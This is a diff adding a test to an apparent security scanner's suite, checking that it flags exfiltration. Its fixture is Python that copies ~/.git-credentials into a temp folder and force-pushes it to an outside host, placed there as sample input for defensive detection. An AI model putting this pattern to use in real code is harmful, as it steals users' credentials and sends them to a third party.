@@ -352,3 +352,13 @@ def test_calls_through_built_lookups_are_resolved() -> None:
     found = {(f.rule, f.line) for f in _scan({"t.py": source}) if f.severity == "critical"}
     assert ("python.exec_decoded", 5) in found
     assert ("python.dynamic_import", 3) in found
+
+
+def test_a_push_from_the_folder_the_keys_were_copied_into() -> None:
+    source = (
+        "import shutil, subprocess, tempfile, os\n"
+        "work = tempfile.mkdtemp()\n"
+        "shutil.copy(os.path.expanduser('~/.git-credentials'), os.path.join(work, 'c'))\n"
+        "subprocess.run(['git', 'push', '--force', 'https://git.example.net/x.git'], cwd=work)\n"
+    )
+    assert "python.exfiltration" in _rules(source)
